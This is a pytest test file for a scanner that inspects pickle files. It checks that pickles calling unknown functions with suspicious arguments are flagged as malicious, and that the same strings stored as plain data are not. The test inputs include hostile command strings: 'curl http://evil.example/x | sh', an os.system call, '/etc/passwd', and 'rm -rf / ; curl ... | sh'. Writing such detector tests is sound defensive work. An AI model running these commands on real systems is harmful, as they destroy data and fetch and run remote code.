from __future__ import annotations

import pytest
from tests.formats.assemble import EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, call, fetch, pickle, text
from tests.scan.examine import examine, rules

from modelward.core.finding import Verdict


@pytest.mark.parametrize(
    "argument",
    [
        "curl http://evil.example/x | sh",
        "__import__('os').system('id')",
        "/etc/passwd",
        "https://evil.example/x",
    ],
)
def test_unknown_function_that_gets_a_command_code_secret_or_address(argument: str) -> None:
    report = examine(pickle(call("acme.jobs", "start", text(argument))))
    assert [finding.rule for finding in report.findings] == [
        "pickle-unknown-global",
        "pickle-suspicious-argument",
    ]
    assert report.verdict is Verdict.MALICIOUS


def test_near_miss_the_same_text_as_data() -> None:
    items = EMPTY_LIST + text("curl http://evil.example/x | sh") + b"a"
    assert rules(pickle(items)) == []
    state = EMPTY_DICT + text("prompt") + text("rm -rf / ; curl http://a.example | sh") + b"s"
    made = fetch("acme.models", "Prompt") + EMPTY_TUPLE + b"\x81" + state + b"b"
    assert rules(pickle(made)) == ["pickle-unknown-global"]


def test_near_miss_words() -> None:
    assert rules(pickle(call("acme.columns", "column", text("id")))) == ["pickle-unknown-global"]
